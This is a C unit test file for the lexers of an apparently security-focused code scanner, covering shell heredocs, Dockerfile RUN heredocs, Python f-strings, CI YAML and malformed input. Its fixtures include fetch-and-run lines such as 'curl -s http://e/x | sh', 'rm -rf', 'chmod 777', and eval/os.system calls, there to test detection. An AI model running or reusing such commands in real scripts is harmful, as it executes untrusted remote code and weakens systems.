/*
 * test-lex.c - the tokenizers: comments are not code, strings are single tokens with
 * their interpolation flags, Python blocks, shell words and heredocs, Dockerfile logical
 * lines, YAML keys, block scalars and embedded scripts, language detection, and the
 * hostile inputs (NUL bytes, invalid UTF-8, unterminated strings and comments, deep
 * nesting, huge lines) that must give tokens or errors, never a crash or a hang.
 */
#include <criterion/criterion.h>

#include "lex.h"
#include "util.h"

#include <stdio.h>

static struct tokens tk;

static void lex(enum lang l, const char *src)
{
	tokens_init(&tk);
	cr_assert_eq(lex_run(l, src, strlen(src), false, &tk), 0, "lexing failed");
}

static void done(void)
{
	tokens_release(&tk);
}

/* The text of token i. */
static char *text(size_t i)
{
	static char buf[4096];
	cr_assert_lt(i, tk.n, "token %zu of %zu", i, tk.n);
	snprintf(buf, sizeof(buf), "%.*s", (int)tk.v[i].len, tk.src + tk.v[i].off);
	return buf;
}

/* The tokens, space-separated, EOL as "\n", INDENT/DEDENT as > and <. */
static char *all(void)
{
	static char buf[8192];
	size_t n = 0;
	buf[0] = '\0';
	for (size_t i = 0; i < tk.n && n < sizeof(buf) - 100; i++) {
		const struct token *k = &tk.v[i];
		const char *t = k->kind == TOK_EOL	? "\\n"
				: k->kind == TOK_INDENT ? ">"
				: k->kind == TOK_DEDENT ? "<"
							: NULL;
		int w = t ? snprintf(buf + n, sizeof(buf) - n, "%s%s", n ? " " : "", t)
			  : snprintf(buf + n, sizeof(buf) - n, "%s%.*s", n ? " " : "", (int)k->len,
				     tk.src + k->off);
		n += (size_t)w;
	}
	return buf;
}

static bool has_token(const char *s)
{
	for (size_t i = 0; i < tk.n; i++) {
		if (tk.v[i].len == strlen(s) && memcmp(tk.src + tk.v[i].off, s, tk.v[i].len) == 0) {
			return true;
		}
	}
	return false;
}

Test(lex, c_comments_strings_and_brackets)
{
	lex(LANG_C, "/* strcpy(a, b) */ x = \"s\\\"t\" // gets(b)\n"
		    "#include <stdio.h>\nchar c = '\\''; f(a[1], {2});\nR\"d(raw \" str)d\";");
	cr_assert(!has_token("strcpy"), "comments are not code: %s", all());
	cr_assert(!has_token("gets"));
	cr_assert_str_eq(text(2), "\"s\\\"t\"");
	cr_assert_eq(tk.v[2].kind, TOK_STRING);
	cr_assert(has_token("<stdio.h>"), "%s", all());
	cr_assert(has_token("'\\''"));
	cr_assert_eq(tk.n_comments, 2);
	cr_assert(tokens_in_comment(&tk, 3));
	/* f ( a [ 1 ] , { 2 } ) ; : brackets pair. */
	for (size_t i = 0; i < tk.n; i++) {
		if (tk.v[i].flags & TOKF_OPEN) {
			cr_assert_neq(tk.v[i].pair, TOK_NONE, "unpaired %s", text(i));
			cr_assert_eq(tk.v[tk.v[i].pair].pair, i);
		}
	}
	cr_assert(has_token("R\"d(raw \" str)d\""), "%s", all());
	done();
}

Test(lex, js_templates_regexes_and_statement_ends)
{
	lex(LANG_JAVASCRIPT, "const a = `x${ y + `z${w}` }`\nconst r = /a\\/b+/g\nq = a / b / c\n"
			     "el.innerHTML = s");
	cr_assert_str_eq(text(3), "`x${ y + `z${w}` }`");
	cr_assert(tk.v[3].flags & TOKF_INTERP);
	cr_assert(tk.v[3].flags & TOKF_STMT_END, "a line break ends the statement");
	cr_assert(has_token("/a\\/b+/g"), "%s", all());
	cr_assert(has_token("/"), "division stays division: %s", all());
	done();
	lex(LANG_TYPESCRIPT, "let s: string = 'it''s'");
	cr_assert_eq(tk.v[tk.n - 1].kind, TOK_STRING);
	done();
}

Test(lex, go_and_java_strings)
{
	lex(LANG_GO, "x := `raw\nline` + \"s\" + 'r'\ny := 1");
	cr_assert_str_eq(text(2), "`raw\nline`");
	cr_assert_eq(tk.v[6].kind, TOK_NUMBER, "a rune is a character constant");
	cr_assert(tk.v[6].flags & TOKF_STMT_END);
	done();
	lex(LANG_JAVA, "String t = \"\"\"\n  a \"quoted\" block\n  \"\"\"; char c = 'x';");
	cr_assert(has_token("\"\"\"\n  a \"quoted\" block\n  \"\"\""), "%s", all());
	done();
}

Test(lex, python_blocks_strings_and_joining)
{
	lex(LANG_PYTHON, "def f(x,\n      y):\n    if x:\n        return f\"{y}\" + r'\\d'\n"
			 "    # comment\n    return '''a\nb'''\nz = 1\n");
	cr_assert_str_eq(all(), "def f ( x , y ) : \\n > if x : \\n > return f\"{y}\" + r'\\d' "
				"\\n < return '''a\nb''' \\n < z = 1 \\n");
	cr_assert(tk.v[16].flags & TOKF_INTERP, "%s is an f-string with a field", text(16));
	cr_assert(!(tk.v[18].flags & TOKF_INTERP));
	done();
}

/* Whether src (Python), or a region of it at most depth levels deep (as the scan lexes
 * regions in turn), holds exactly expr; *dropped when a lexing gave up on a field. */
static bool py_region_holds(const char *src, size_t len, const char *expr, int depth, bool *dropped)
{
	struct tokens t;
	tokens_init(&t);
	cr_assert_eq(lex_run(LANG_PYTHON, src, len, false, &t), 0);
	*dropped |= t.regions_dropped;
	bool found = false;
	for (size_t r = 0; r < t.n_regions && !found; r++) {
		const char *sub = t.src + t.regions[r].off;
		size_t n = t.regions[r].len;
		found = (n == strlen(expr) && memcmp(sub, expr, n) == 0) ||
			(depth > 1 && py_region_holds(sub, n, expr, depth - 1, dropped));
	}
	tokens_release(&t);
	return found;
}

/* F-strings as Python 3.12 reads them (PEP 701): a field's expression is code that may
 * hold strings in the f-string's own quotes, f-strings, comments and line breaks; the
 * string ends where Python ends it, and the code after it is code. */
Test(lex, python_fstrings_as_python_312_reads_them)
{
	static const struct {
		const char *src, *str, *expr; /* the source, its first string, a field */
	} c[] = {
		{ "x = f\"{os.system(\"rm -rf \" + x)}\"\nz\n", "f\"{os.system(\"rm -rf \" + x)}\"",
		  "os.system(\"rm -rf \" + x)" },
		{ "x = f\"{f\"{eval(x)}\"}\" + z\n", "f\"{f\"{eval(x)}\"}\"", "eval(x)" },
		{ "x = f'{\n  eval(x)  # it's }'\n}' + z\n", "f'{\n  eval(x)  # it's }'\n}'",
		  "\n  eval(x)  # it's }'\n" },
		{ "x = f\"{x!r:>{w}} {y:{\"}\"}}\" + z\n", "f\"{x!r:>{w}} {y:{\"}\"}}\"", "\"}\"" },
		{ "x = f\"{x:'>{w}}{eval(u)}\" + z\n", "f\"{x:'>{w}}{eval(u)}\"", "eval(u)" },
		{ "x = f\"{(lambda: eval(u))()}\" + z\n", "f\"{(lambda: eval(u))()}\"",
		  "(lambda: eval(u))()" },
		{ "x = rf\"\\{eval(u)}\" + z\n", "rf\"\\{eval(u)}\"", "eval(u)" },
		{ "x = Fr'''{'''\n'''}{eval(u)}''' + z\n", "Fr'''{'''\n'''}{eval(u)}'''",
		  "eval(u)" },
		{ "x = f\"\\N{BULLET}{{{eval(u)}}}\" + z\n", "f\"\\N{BULLET}{{{eval(u)}}}\"",
		  "eval(u)" },
		{ "x = f\"{x:>9\n}{eval(u)}\" + z\n", "f\"{x:>9\n}{eval(u)}\"", "eval(u)" },
		{ "x = t\"{eval(u)}\" + z\n", "t\"{eval(u)}\"", "eval(u)" },
	};
	for (size_t i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		lex(LANG_PYTHON, c[i].src);
		cr_assert_str_eq(text(2), c[i].str, "%zu: %s", i, all());
		cr_assert(tk.v[2].flags & TOKF_INTERP);
		cr_assert(!(tk.v[2].flags & TOKF_UNTERMINATED));
		cr_assert(has_token("z"), "%zu: the code after the string: %s", i, all());
		done();
		bool dropped = false;
		cr_assert(py_region_holds(c[i].src, strlen(c[i].src), c[i].expr, 3, &dropped),
			  "%zu: no field %s", i, c[i].expr);
		cr_assert(!dropped, "%zu", i);
	}
	/* Text, `{{ }}` and named characters are no fields. */
	lex(LANG_PYTHON, "x = f\"\\N{BULLET} {{eval(u)}} \\N{LEFT CURLY BRACKET}\" + z\n");
	cr_assert_eq(tk.n_regions, 0);
	cr_assert(!(tk.v[2].flags & TOKF_INTERP));
	cr_assert(has_token("z"), "%s", all());
	done();
	/* Past 16 nested f-strings, and at a field the file ends in, the lexer gives up. */
	char deep[512] = "eval(u)";
	for (int n = 0; n < 17; n++) {
		char next[512];
		snprintf(next, sizeof(next), "f\"{%s}\"", deep);
		snprintf(deep, sizeof(deep), "%s", next);
	}
	bool dropped = false;
	cr_assert(!py_region_holds(deep, strlen(deep), "eval(u)", 20, &dropped));
	cr_assert(dropped, "17 nested f-strings");
	dropped = false;
	cr_assert(py_region_holds(deep + 3, strlen(deep) - 5, "eval(u)", 20, &dropped));
	cr_assert(!dropped, "16 nested f-strings are read");
	dropped = false;
	py_region_holds("x = f\"{(\n\"\n", 11, "", 1, &dropped);
	cr_assert(dropped, "a field the file ends in");
}

Test(lex, shell_words_operators_heredocs_and_substitutions)
{
	lex(LANG_SHELL, "rm -rf $DIR/x \"$HOME\"/y 'lit'\nA=1 curl -s u | sh # c\n"
			"cat <<EOF\nbody $v\nEOF\necho $(date) `id`\n");
	cr_assert_str_eq(text(2), "$DIR/x");
	cr_assert(tk.v[2].flags & TOKF_EXPANSION);
	cr_assert(tk.v[3].flags & TOKF_INTERP);
	cr_assert(!(tk.v[3].flags & TOKF_EXPANSION), "the expansion is quoted");
	cr_assert(tok_is_constant(&tk, &tk.v[4]));
	cr_assert(has_token("|") && has_token("sh") && !has_token("c"), "%s", all());
	cr_assert(has_token("body $v\n"), "a heredoc body is one token: %s", all());
	/* $(date) and `id` are regions scanned as shell. */
	cr_assert_eq(tk.n_regions, 2);
	cr_assert_eq(memcmp(tk.src + tk.regions[0].off, "date", 4), 0);
	done();
}

/* A heredoc or a comment inside $( ) holds text that is not shell: an apostrophe or a
 * parenthesis there does not move the end of the substitution (the rest of the script was
 * swallowed as one word, and a `curl | sh` after it went unseen). $(( << )) shifts. */
/* Whether src, or a shell region in it (as the scan lexes regions in turn, depth levels
 * deep), is exactly "curl -s http://e/x | sh". */
static bool runs_curl(const char *src, int depth)
{
	struct tokens t;
	tokens_init(&t);
	cr_assert_eq(lex_run(LANG_SHELL, src, strlen(src), false, &t), 0);
	bool found = false;
	for (size_t r = 0; r < t.n_regions && !found; r++) {
		char *sub = strndup(t.src + t.regions[r].off, t.regions[r].len);
		found = strcmp(sub, "curl -s http://e/x | sh") == 0 ||
			(depth > 1 && runs_curl(sub, depth - 1));
		free(sub);
	}
	tokens_release(&t);
	return found;
}

Test(lex, heredocs_and_comments_inside_substitutions)
{
	lex(LANG_SHELL, "x=$(cat <<'EOF'\nit's here ) (\nEOF\n)\n"
			"y=$(date # it's now )\n)\n"
			"z=$((1 << 2))\n"
			"curl -s http://x | sh\n");
	cr_assert(has_token("curl") && has_token("sh"), "%s", all());
	cr_assert_eq(tk.n_regions, 2, "%s", all());
	cr_assert_eq(memcmp(tk.src + tk.regions[0].off, "cat <<'EOF'\nit's here ) (\nEOF\n",
			    tk.regions[0].len),
		     0);
	cr_assert_eq(tk.regions[0].len, strlen("cat <<'EOF'\nit's here ) (\nEOF\n"));
	done();
	/* Arithmetic inside the substitution shifts, wherever its (( is, and # after an
	 * escaped blank is a word's: each was taken for a heredoc or a comment, and hid the
	 * rest of the script. */
	static const char *const code[] = {
		"x=$( (( y = 1 << 2 ))\necho $y )\ncurl -s http://e/x | sh\n",
		"x=$(for ((j=1<<1; j<3; j++)); do echo; done\n)\ncurl -s http://e/x | sh\n",
		"x=$(echo \\ #; curl -s http://e/x | sh)\necho done\n",
	};
	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++) {
		lex(LANG_SHELL, code[i]);
		bool curl = false;
		for (size_t r = 0; r < tk.n_regions; r++) {
			curl |= memmem(tk.src + tk.regions[r].off, tk.regions[r].len, "curl", 4) !=
				NULL;
		}
		cr_assert(curl || has_token("curl"), "%zu: curl unseen: %s", i, all());
		done();
	}
	/* An unquoted heredoc body runs its $( ): a region, at the top level and inside a
	 * substitution (where the skip over the body hid it); a quoted one runs nothing. */
	static const struct {
		const char *src;
		bool runs;
	} bodies[] = {
		{ "cat <<EOF\n$(curl -s http://e/x | sh)\nEOF\n", true },
		{ "x=$(cat <<EOF\n$(curl -s http://e/x | sh)\nEOF\n)\n", true },
		{ "cat <<'EOF'\n$(curl -s http://e/x | sh)\nEOF\n", false },
	};
	for (size_t i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++) {
		cr_assert_eq(runs_curl(bodies[i].src, 2), bodies[i].runs, "%zu: %s", i,
			     bodies[i].src);
	}
	/* A delimiter quoted in its middle is the word without its quotes (E"O"F ends at
	 * EOF: the rest of the script was taken for its body), and its body is literal. */
	static const char *const partly[] = { "cat <<E\"O\"F\nhi\nEOF\ncurl -s http://e/x | sh\n",
					      "cat <<E'O'F\nhi\nEOF\ncurl -s http://e/x | sh\n",
					      "cat <<E\\OF\nhi\nEOF\ncurl -s http://e/x | sh\n" };
	for (size_t i = 0; i < sizeof(partly) / sizeof(partly[0]); i++) {
		lex(LANG_SHELL, partly[i]);
		cr_assert(has_token("curl") && has_token("sh"), "%zu: %s", i, all());
		done();
	}
	cr_assert_not(runs_curl("cat <<E\"O\"F\n$(curl -s http://e/x | sh)\nEOF\n", 2),
		      "a quoted body runs nothing");
	/* Two heredocs on one line, <<- and an unquoted one. */
	lex(LANG_SHELL, "v=$(cat <<-A <<B\n\t'\n\tA\n)\nB\n)\necho ok\n");
	cr_assert(has_token("echo") && has_token("ok"), "%s", all());
	done();
}

Test(lex, dockerfile_logical_lines)
{
	lex(LANG_DOCKERFILE, "# escape=\\\nFROM debian:12 AS b\nrun apt-get update && \\\n"
			     "    # a comment line\n    apt-get install -y curl\n"
			     "CMD [\"sh\", \"-c\", \"x\"]\nENV A=1 B=\"two words\"\n");
	cr_assert_str_eq(all(),
			 "FROM debian:12 AS b \\n run apt-get update && apt-get install -y "
			 "curl \\n CMD [ \"sh\" , \"-c\" , \"x\" ] \\n ENV A = 1 B = \"two words\" "
			 "\\n");
	cr_assert(tok_text_eq(&tk, &tk.v[5], "RUN", 3), "instructions match in any case");
	done();
}

/* A RUN heredoc a shell runs: the RUN's line ends before its body, and each line of the body
 * starts with an empty token that reads as RUN (shown as `RUN` here), on the body's line.
 * COPY's is a file's content, python3's its input: one string each. */
Test(lex, dockerfile_run_heredocs)
{
	lex(LANG_DOCKERFILE, "RUN --mount=type=cache,target=/c <<EOF\n"
			     "apt-get update\n"
			     "# a comment\n"
			     "curl -fsSL https://x \\\n  | sh; chmod 777 /s\n"
			     "EOF\n"
			     "RUN <<EOF python3\nprint(1)\nEOF\n"
			     "COPY <<EOF /dst\nls -l\nEOF\n");
	char got[8192];
	size_t n = 0;
	for (size_t i = 0; i < tk.n; i++) {
		const struct token *k = &tk.v[i];
		n += (size_t)snprintf(got + n, sizeof(got) - n, "%s%s", n ? " " : "",
				      k->flags & TOKF_IMPLIED ? "RUN"
				      : k->kind == TOK_EOL    ? "\\n"
							      : text(i));
		if (k->flags & TOKF_IMPLIED) {
			cr_assert_eq(k->len, 0);
			cr_assert(tok_text_eq(&tk, k, "run", 3), "it reads as the instruction");
			cr_assert_eq(k->hash, tk.v[0].hash);
		}
	}
	cr_assert_str_eq(
		got, "RUN --mount=type=cache,target=/c << EOF \\n RUN apt-get update \\n RUN "
		     "curl -fsSL https://x | sh ; chmod 777 /s \\n RUN << EOF python3 print(1)\n "
		     "\\n COPY << EOF /dst ls -l\n \\n");
	cr_assert_eq(tk.v[9].line, 4, "the body's line");
	cr_assert(tk.v[9].flags & TOKF_IMPLIED);
	done();
}

/* The tokens, space-separated, a heredoc line's implied RUN shown as `RUN`, EOL as "\n". */
static char *run_view(void)
{
	static char got[8192];
	size_t n = 0;
	got[0] = '\0';
	for (size_t i = 0; i < tk.n && n < sizeof(got) - 100; i++) {
		const struct token *k = &tk.v[i];
		n += (size_t)snprintf(got + n, sizeof(got) - n, "%s%s", n ? " " : "",
				      k->flags & TOKF_IMPLIED ? "RUN"
				      : k->kind == TOK_EOL    ? "\\n"
							      : text(i));
	}
	return got;
}

/* A body a shell runs through a pipe (`cat <<EOF | sh`), under sudo (`<<EOF sudo -E bash -`) or
 * after ONBUILD is the RUN's commands too; cat copying it to a file, or a shell reading
 * another input or running a script (`bash -- x.sh`, `<<A <<B bash`: B's body, `bash < f`),
 * does not run it. */
Test(lex, dockerfile_run_heredocs_piped_sudo_onbuild)
{
	lex(LANG_DOCKERFILE, "RUN cat <<EOF | sh -s\nchmod 777 /a\nEOF\n"
			     "RUN <<EOF sudo -u app -E bash\nchmod 777 /b\nEOF\n"
			     "onbuild run <<EOF\nchmod 777 /c\nEOF\n"
			     "RUN cat <<EOF > /x | sh\nls /d\nEOF\n"
			     "RUN cat f <<EOF | sh\nls /e\nEOF\n"
			     "RUN cat <<EOF | sh < /y\nls /f\nEOF\n"
			     "RUN <<EOF sudo gpg --dearmor\nls /g\nEOF\n"
			     "RUN <<EOF sudo -E bash -\nchmod 777 /h\nEOF\n"
			     "RUN <<EOF bash -- x.sh\nls /i\nEOF\n"
			     "RUN <<A <<B bash\nls /j\nA\nls /k\nB\n"
			     "RUN <<EOF bash < /z\nls /l\nEOF\n");
	cr_assert_str_eq(run_view(), "RUN cat << EOF | sh -s \\n RUN chmod 777 /a \\n "
				     "RUN << EOF sudo -u app -E bash \\n RUN chmod 777 /b \\n "
				     "onbuild run << EOF \\n RUN chmod 777 /c \\n "
				     "RUN cat << EOF > /x | sh ls /d\n \\n "
				     "RUN cat f << EOF | sh ls /e\n \\n "
				     "RUN cat << EOF | sh < /y ls /f\n \\n "
				     "RUN << EOF sudo gpg --dearmor ls /g\n \\n "
				     "RUN << EOF sudo -E bash - \\n RUN chmod 777 /h \\n "
				     "RUN << EOF bash -- x.sh ls /i\n \\n "
				     "RUN << A << B bash ls /j\n \\n RUN ls /k \\n "
				     "RUN << EOF bash < /z ls /l\n \\n");
	done();
}

/* A body a shell reads through tee (`cat <<EOF | tee log | sh`), under env (`<<EOF env X=1
 * sh`), or as the shell sudo -s or -i runs with no command is the RUN's commands too; tee
 * copying it to a file only, env running another program, sudo -s running a command, or
 * sudo with no command and no -s, does not run it. */
Test(lex, dockerfile_run_heredocs_tee_env_sudo_shell)
{
	lex(LANG_DOCKERFILE, "RUN cat <<EOF | tee -a log | sh\nchmod 777 /a\nEOF\n"
			     "RUN cat <<EOF | tee log > /dev/null | sh\nls /b\nEOF\n"
			     "RUN cat <<EOF | tee x | python3\nls /c\nEOF\n"
			     "RUN <<EOF env -i X=1 Y= bash -e\nchmod 777 /d\nEOF\n"
			     "RUN <<EOF env X=1 python3\nls /e\nEOF\n"
			     "RUN <<EOF sudo -Es\nchmod 777 /f\nEOF\n"
			     "RUN <<EOF sudo --login\nchmod 777 /g\nEOF\n"
			     "RUN <<EOF sudo -i ls\nls /h\nEOF\n"
			     "RUN <<EOF sudo -E\nls /i\nEOF\n"
			     "RUN <<EOF sudo env X=1 sh\nchmod 777 /j\nEOF\n"
			     "RUN <<EOF tee log | sh\nchmod 777 /k\nEOF\n");
	cr_assert_str_eq(run_view(), "RUN cat << EOF | tee -a log | sh \\n RUN chmod 777 /a \\n "
				     "RUN cat << EOF | tee log > /dev/null | sh ls /b\n \\n "
				     "RUN cat << EOF | tee x | python3 ls /c\n \\n "
				     "RUN << EOF env -i X = 1 Y = bash -e \\n RUN chmod 777 /d \\n "
				     "RUN << EOF env X = 1 python3 ls /e\n \\n "
				     "RUN << EOF sudo -Es \\n RUN chmod 777 /f \\n "
				     "RUN << EOF sudo --login \\n RUN chmod 777 /g \\n "
				     "RUN << EOF sudo -i ls ls /h\n \\n "
				     "RUN << EOF sudo -E ls /i\n \\n "
				     "RUN << EOF sudo env X = 1 sh \\n RUN chmod 777 /j \\n "
				     "RUN << EOF tee log | sh \\n RUN chmod 777 /k \\n");
	done();
}

Test(lex, yaml_keys_scalars_blocks_and_scripts)
{
	const char *wf = "on: [push, pull_request_target]\njobs:\n  a:\n    steps:\n"
			 "      - uses: actions/checkout@v4  # pinned\n"
			 "      - run: |\n          echo \"${{ github.event.issue.title }}\"\n"
			 "          make\n        name: x\n      - run: make test\n";
	lex(LANG_GITHUB_ACTIONS, wf);
	cr_assert(tk.v[0].flags & TOKF_KEY);
	cr_assert(has_token("pull_request_target"));
	cr_assert(has_token("actions/checkout@v4"), "%s", all());
	cr_assert(!has_token("#"), "comments are dropped");
	bool block = false;
	for (size_t i = 0; i < tk.n; i++) {
		if (tk.v[i].flags & TOKF_BLOCK) {
			block = true;
			cr_assert_str_eq(text(i),
					 "          echo \"${{ github.event.issue.title }}\"\n"
					 "          make");
		}
	}
	cr_assert(block);
	cr_assert(has_token("name"), "the key after the block is a key again: %s", all());
	cr_assert_eq(tk.n_regions, 2, "both run: scripts are embedded shell");
	done();
	lex(LANG_GITLAB_CI, "build:\n  script:\n    - make\n    - make test\n  image: x\n");
	cr_assert_eq(tk.n_regions, 2);
	done();
}

Test(lex, detection)
{
	cr_assert_eq(lang_detect("src/a.c", NULL, 0), LANG_C);
	cr_assert_eq(lang_detect("a.hpp", NULL, 0), LANG_CPP);
	cr_assert_eq(lang_detect("web/app.tsx", NULL, 0), LANG_TYPESCRIPT);
	cr_assert_eq(lang_detect("Dockerfile", NULL, 0), LANG_DOCKERFILE);
	cr_assert_eq(lang_detect("build/Dockerfile.prod", NULL, 0), LANG_DOCKERFILE);
	cr_assert_eq(lang_detect(".github/workflows/ci.yml", NULL, 0), LANG_GITHUB_ACTIONS);
	cr_assert_eq(lang_detect("sub/.github/workflows/ci.yaml", NULL, 0), LANG_GITHUB_ACTIONS);
	cr_assert_eq(lang_detect(".gitlab-ci.yml", NULL, 0), LANG_GITLAB_CI);
	cr_assert_eq(lang_detect("config.yml", NULL, 0), LANG_NONE);
	cr_assert_eq(lang_detect("README.md", NULL, 0), LANG_NONE);
	const char *sh = "#!/usr/bin/env bash\necho";
	cr_assert_eq(lang_detect("bin/tool", sh, strlen(sh)), LANG_SHELL);
	const char *py = "#!/usr/bin/python3 -u\n";
	cr_assert_eq(lang_detect("tool", py, strlen(py)), LANG_PYTHON);
	cr_assert_eq(lang_detect("tool", "plain", 5), LANG_NONE);
	enum lang l;
	cr_assert_eq(lang_parse("c++", &l), 0);
	cr_assert_eq(l, LANG_CPP);
	cr_assert_eq(lang_parse("cobol", &l), -EINVAL);
}

/* Every tokenizer on hostile input: terminates, stays in bounds, offsets increase. */
static void hostile(const char *buf, size_t len)
{
	for (int l = 1; l < LANG_COUNT; l++) {
		struct tokens t;
		tokens_init(&t);
		int r = lex_run((enum lang)l, buf, len, false, &t);
		cr_assert(r == 0 || r == -E2BIG, "%s: %d", lang_name((enum lang)l), r);
		uint32_t last = 0;
		for (size_t i = 0; i < t.n; i++) {
			cr_assert_leq((size_t)t.v[i].off + t.v[i].len, len, "%s",
				      lang_name((enum lang)l));
			cr_assert_geq(t.v[i].off, last, "%s: offsets go back",
				      lang_name((enum lang)l));
			last = t.v[i].off;
		}
		tokens_release(&t);
	}
}

Test(lex, hostile_inputs_never_crash_or_hang)
{
	const char nul[] = "int a = 0;\0\0 strcpy(x, \"a\0b\");\n";
	hostile(nul, sizeof(nul) - 1);
	const char bad_utf8[] = "s = \"\xff\xfe\xc3\x28\" \xe2\x82 /* \xf0\x28\x8c\x28 */";
	hostile(bad_utf8, sizeof(bad_utf8) - 1);
	const char *unterminated[] = {
		"x = \"never closed", "/* never closed", "x = `tmpl ${ a + `", "'''doc",
		"cat <<EOF\nno end",  "key: |\n  block", "R\"d(raw",	       "echo $(echo $(echo",
		"\"\"\"text block",   "RUN <<EOF\nx",
	};
	for (size_t i = 0; i < ARRAY_SIZE(unterminated); i++) {
		hostile(unterminated[i], strlen(unterminated[i]));
	}
	/* Deep nesting, past the pairing cap. */
	size_t n = 200000;
	char *deep = xmalloc(2 * n + 1);
	memset(deep, '(', n);
	memset(deep + n, ')', n);
	deep[2 * n] = '\0';
	hostile(deep, 2 * n);
	memset(deep, '{', 2 * n);
	hostile(deep, 2 * n);
	/* A huge line, and a huge indented Python file. */
	memset(deep, 'a', 2 * n);
	hostile(deep, 2 * n);
	for (size_t i = 0; i < 2 * n; i++) {
		deep[i] = i % 3 == 0 ? '\n' : ' ';
	}
	hostile(deep, 2 * n);
	free(deep);
}

Test(lex, positions)
{
	lex(LANG_C, "int a;\n\t\xc3\xa9x = strcpy(d, s);\n");
	uint32_t i = tokens_find(&tk, 14);
	cr_assert_str_eq(text(i), "strcpy");
	cr_assert_eq(tk.v[i].line, 2);
	/* Columns count code points: tab, é, x, space, =, space -> strcpy at column 7. */
	cr_assert_eq(tokens_column_of(&tk, tk.v[i].off), 7);
	cr_assert_eq(tokens_line_of(&tk, 0), 1);
	done();
}
